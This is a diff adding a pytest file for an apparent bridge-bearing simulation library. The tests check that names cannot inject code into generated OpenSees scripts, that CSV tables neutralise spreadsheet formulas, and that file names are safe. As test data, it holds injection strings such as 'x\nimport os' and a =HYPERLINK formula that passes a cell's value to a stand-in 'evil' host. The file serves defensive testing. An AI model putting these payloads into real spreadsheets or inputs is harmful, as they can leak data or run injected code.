@@ -1,0 +1,148 @@
+"""Any valid name works everywhere; a name that is no printable line is refused."""
+
+import ast
+from concurrent.futures import ThreadPoolExecutor
+from pathlib import Path
+from typing import Any
+
+import pandas as pd
+import pytest
+
+import thermobearing as tb
+from thermobearing.bearing.changed import changed_bearing
+from thermobearing.bearing.model import Bearing
+from thermobearing.border.text_file import file_names
+from thermobearing.cyclic.result import Result
+from thermobearing.design.bilinear import BoundModel, opensees_text
+from thermobearing.model.earlier import BilinearParameters
+from thermobearing.results.writing import json_line, without_formulas
+
+SOURCE = Path(tb.__file__).parent / "data" / "bearings" / "shen-hdr-specimen.toml"
+STRANGE = "HDR 1/6 \"x\" 免震, 'y' {z} $\\frac{1$ <b> " + "é" * 100
+
+
+def renamed(path: Path, name: str) -> Path:
+    """The specimen under another name."""
+    lines = SOURCE.read_text(encoding="utf-8").splitlines()
+    at = next(k for k, line in enumerate(lines) if line.startswith("name = "))
+    lines[at] = "name = '''" + name + "'''" if "\n" in name else f"name = '''{name}'''"
+    path.write_text("\n".join(lines), encoding="utf-8")
+    return path
+
+
+@pytest.fixture(scope="module")
+def specimen(tmp_path_factory: pytest.TempPathFactory) -> Bearing:
+    return tb.load_bearing(renamed(tmp_path_factory.mktemp("named") / "s.toml", STRANGE))
+
+
+@pytest.fixture(scope="module")
+def cyclic(specimen: Bearing) -> Result:
+    test = tb.cyclic_test(strain=[0.5], cycles=1, rest=None)
+    return tb.run(specimen, test, ambient=[0.0, 23.0])
+
+
+@pytest.mark.parametrize(
+    "name",
+    ["x\nimport os", "x\r", "x\x1b[2J", "x\u2028y", "\ud800x", "x" * 201, ""],
+    ids=["two lines", "return", "escape", "line separator", "surrogate", "long", "empty"],
+)
+def test_a_name_is_one_printable_line(name: str) -> None:
+    bearing = tb.load_bearing(SOURCE)
+    with pytest.raises(tb.InputError, match="name"):
+        changed_bearing(bearing, name=name)
+
+
+@pytest.mark.parametrize("what", ["structure", "motion", "test", "rig"])
+def test_names_of_other_things_are_lines(what: str) -> None:
+    from thermobearing.earthquake.motion import Motion
+
+    name = "x\nimport os"
+    make: dict[str, Any] = {
+        "structure": lambda: (
+            tb.structure.load_structure("pier-p1")
+            .model_copy()
+            .model_validate({**tb.structure.load_structure("pier-p1").model_dump(), "name": name})
+        ),
+        "motion": lambda: Motion(name="jra-ii-i-1", label=name),
+        "test": lambda: tb.cyclic.CyclicTest(name=name, steps=[{"step": "rest", "duration": 1.0}]),
+        "rig": lambda: tb.cyclic.Rig(name=name),
+    }
+    with pytest.raises(ValueError, match="one line"):
+        make[what]()
+
+
+def test_generated_scripts_hold_no_line_of_a_name() -> None:
+    """Before: `bounds.py` ran what stood after a line break in the name of the bearing."""
+    model = BoundModel("lower", 1.75, "first", 23.0, BilinearParameters(100.0, 2.0, 10.0))
+    for language in ("python", "tcl"):
+        text = opensees_text([model], "x\nimport os\r\x0b; puts \\", language)
+        assert text.splitlines()[0].startswith("# x import os")
+        assert len(text.splitlines()) == (5 if language == "python" else 4)
+    tree = ast.parse(opensees_text([model], "x\nimport os", "python"))
+    imported = [node.names[0].name for node in ast.walk(tree) if isinstance(node, ast.Import)]
+    assert imported == ["openseespy.opensees"]
+
+
+def test_results_of_any_name_are_written_and_read(
+    specimen: Bearing, cyclic: Result, tmp_path: Path
+) -> None:
+    """Before: a bridge was computed and then lost in netCDF."""
+    cyclic.save(tmp_path / "cyclic", figures=False)
+    assert tb.load_result(tmp_path / "cyclic").dataset.attrs["title"]
+    found = tb.bridge(
+        structure="pier-p1", bearing=specimen, motion="jra-ii-i-1", ambient=0.0, duration=0.5
+    )
+    found.save(tmp_path / "bridge", figures=False)
+    again = tb.load_result(tmp_path / "bridge")
+    assert again.dataset.attrs.keys() == found.dataset.attrs.keys()
+    assert json_line(again.summary()) == json_line(found.summary())
+    again.save(tmp_path / "again", figures=False)
+    assert tb.load_result(tmp_path / "again").summary()["initial_periods_s"].keys() == {STRANGE}
+
+
+@pytest.mark.thorough
+def test_figures_of_any_name_are_drawn(cyclic: Result, tmp_path: Path) -> None:
+    cyclic.save(tmp_path / "cyclic")
+    assert (tmp_path / "cyclic" / "figures" / "loops.png").exists()
+
+
+def test_results_are_saved_from_threads(cyclic: Result, tmp_path: Path) -> None:
+    """Before: the process died in HDF5."""
+
+    def save(k: int) -> str:
+        path = cyclic.save(tmp_path / f"o{k}", figures=False)
+        return tb.load_result(path).outcome
+
+    with ThreadPoolExecutor(4) as pool:
+        assert list(pool.map(save, range(8))) == ["completed"] * 8
+
+
+def test_no_text_of_a_table_is_a_formula() -> None:
+    """Numbers with a sign, and their units, stay as they are."""
+    texts = ['=HYPERLINK("http:evil"&A1,"ok")', "@SUM(1)", "+1+1", "-2+3", "\t=1", "-", "--"]
+    texts += ["-20", "-20 degC", "+1.5e-3 kN", "-20 %", "plain", "a=b"]
+    table = pd.DataFrame({"=name": texts, "number": range(len(texts)), "none": None})
+    safe = without_formulas(table)
+    assert list(safe.columns) == ["'=name", "number", "none"]
+    assert safe["'=name"].tolist()[:5] == [f"'{text}" for text in texts[:5]]
+    assert safe["'=name"].tolist()[5:] == texts[5:]
+    assert table.columns[0] == "=name"
+
+
+def test_a_formula_in_a_name_is_text_in_the_table(tmp_path: Path) -> None:
+    bearing = changed_bearing(tb.load_bearing(SOURCE), name='=HYPERLINK("http:evil","ok")')
+    found = tb.bridge(
+        structure="pier-p1", bearing=bearing, motion="jra-ii-i-1", ambient=0.0, duration=0.2
+    )
+    found.save(tmp_path / "out", figures=False)
+    assert "\n=" not in (tmp_path / "out" / "table.csv").read_text(encoding="utf-8")
+    assert ",=" not in (tmp_path / "out" / "table.csv").read_text(encoding="utf-8")
+    table = pd.read_csv(tmp_path / "out" / "table.csv")
+    assert table["bearing"].tolist() == ['\'=HYPERLINK("http:evil","ok")']
+
+
+def test_files_of_things_have_names_that_any_system_takes() -> None:
+    names = file_names(["HDR 1/6", "HDR 1:6", "..", "免震", "", "a" * 300])
+    assert len(set(names)) == 6
+    assert not any(set("/\\: ") & set(name) for name in names)
+    assert max(map(len, names)) <= 82
